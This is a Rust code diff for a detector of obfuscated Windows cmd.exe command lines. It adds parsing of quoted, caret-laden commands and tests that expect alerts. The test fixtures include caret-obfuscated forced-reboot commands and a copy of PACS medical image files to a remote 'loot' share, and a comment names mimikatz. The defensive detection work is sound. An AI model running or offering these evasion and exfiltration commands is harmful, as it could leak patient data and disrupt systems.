@@ -1029,13 +1029,38 @@ fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
                 // Not glued to a letter (`/c mimikatz`, `/c"x"`, `/c,x`): a command
                 // line's form, never prose's (`CMD /CBD`).
                 let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
-                return runs_command(command, chance_bytes)
-                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd));
+                let runs = |command: &[u8]| {
+                    runs_command(command, chance_bytes)
+                        || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd))
+                };
+                return runs(command) || inner_command_line(command).is_some_and(|c| runs(&c));
             }
             from += part.len() + 1;
         }
     }
     stdin_from_file(line, chance_bytes)
+}
+
+/// The command line the inner cmd.exe runs when `command` (what follows `/c` or `/k`,
+/// carets outside quotes already dropped by the outer one) opens with a quote holding a
+/// caret: it strips the first and the last quote, then reads the line again and drops
+/// the carets now outside quotes (review rv43-screen, case4: `cmd /c "s^hutdown /r /t
+/// 0"` runs `shutdown /r /t 0` and was clean). `None` when the line reads the same.
+/// The separators before the quote are kept ([`hands_a_plain_name`] asks for one). The
+/// copy is bounded as the line is ([`without_carets`]: [`CMD_LINE_LIMIT`]).
+fn inner_command_line(command: &[u8]) -> Option<Vec<u8>> {
+    let open = command
+        .iter()
+        .position(|&b| !is_switch_separator(b) || b == b'"')?;
+    if command[open] != b'"' || !command[open..].contains(&b'^') {
+        return None;
+    }
+    let close = open + 1 + command[open + 1..].iter().rposition(|&b| b == b'"')?;
+    let mut inner = command[..open].to_vec();
+    inner.extend_from_slice(&without_carets(
+        &[&command[open + 1..close], &command[close + 1..]].concat(),
+    ));
+    Some(inner)
 }
 
 /// Whether `b` parts a switch of cmd.exe's from what follows it as a blank does: cmd.exe
@@ -11135,5 +11160,23 @@ mod lolbin_tests {
             &[false, true],
         );
         assert_clean(&["c^all the ward", "\"c^all\" copy a b", "c^^all copy a b"]);
+    }
+
+    /// Review rv43-screen (issue 10, case4): the command line given to `cmd /c` or `/k`
+    /// in quotes is read again by the inner cmd.exe, which strips the quotes, then
+    /// removes the carets: `cmd /c "s^hutdown /r /t 0"` runs `shutdown /r /t 0`.
+    #[test]
+    fn carets_inside_the_quotes_given_to_cmd_are_removed_by_the_inner_cmd() {
+        assert_alerts(
+            &[
+                "cmd /c \"s^hutdown /r /t 0\"",
+                "cmd /k \"s^hutdown /r /t 0\"",
+                "cmd /c \"c^o^p^y C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
+                "cmd /c \"shutdown /r /t 0\"",
+                "cmd /c \"copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\"",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["cmd /c \"e^cho normal\"", "CMD /C \"E^CHO^ normal\""]);
     }
 }
